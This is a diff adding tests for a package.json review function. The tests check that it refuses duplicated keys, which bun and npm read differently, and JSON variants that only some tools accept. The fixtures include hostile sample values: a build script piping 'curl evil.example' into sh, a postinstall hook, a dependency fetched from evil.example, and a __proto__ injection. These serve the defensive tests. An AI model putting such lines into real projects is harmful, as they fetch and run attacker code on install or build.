@@ -88,6 +88,29 @@ describe("reviewPackageJson", () => {
     expect(reviewPackageJson(JSON.stringify(before), text)).toHaveLength(1);
   });
 
+  it.each([
+    ["scripts", '"scripts":{"postinstall":"sh"},', ""],
+    ["scripts written with an escape", '"\\u0073cripts":{"postinstall":"sh"},', ""],
+    ["dependencies", '"dependencies":{"react":"git+https://evil.example/react"},', ""],
+    ["a script", "", '"build":"curl evil.example | sh",'],
+    ["a prototype", '"__proto__":{"scripts":{"postinstall":"sh"}},', ""],
+  ])("refuses repeated %s, of which bun reads the first and npm the last", (_name, first, script) => {
+    const original = '{"scripts":{"build":"vite build"},"dependencies":{"react":"19.0.0"}}';
+    const after = `{\n${first}"scripts":{${script}"build":"vite build"},"dependencies":{"react":"19.0.0"}}`;
+    expect(reviewPackageJson(original, after)).toEqual([expect.stringMatching(/repeats the key.* line 2/)]);
+  });
+
+  it.each(["{private: true}", "{'private':true}", '{"private":true,}', '{"private":true}//x', "{}{}"])(
+    "refuses %s, which is JSON for some tools only",
+    (text) => {
+      expect(reviewPackageJson("{}", text)).toEqual([expect.stringContaining("one JSON object")]);
+    },
+  );
+
+  it("accepts a byte order mark, as npm does", () => {
+    expect(reviewPackageJson(JSON.stringify(before), `\uFEFF${JSON.stringify(before)}`)).toEqual([]);
+  });
+
   it("survives deep nesting", () => {
     const deep = `${"[".repeat(50_000)}${"]".repeat(50_000)}`;
     expect(reviewPackageJson("{}", `{"x":${deep}}`)).toHaveLength(1);
